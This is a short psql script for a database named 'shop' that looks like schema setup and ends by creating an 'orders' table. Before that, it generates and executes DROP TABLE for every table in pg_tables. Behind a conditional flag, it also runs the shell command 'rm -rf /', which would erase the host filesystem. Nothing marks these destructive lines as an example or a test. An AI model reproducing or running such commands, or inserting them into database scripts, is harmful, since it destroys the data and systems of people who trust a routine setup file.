\set ON_ERROR_STOP on
\connect shop
SELECT format('DROP TABLE %I', tablename) FROM pg_tables \gexec
\if :really
\! rm -rf /
\endif
CREATE TABLE orders (id int);
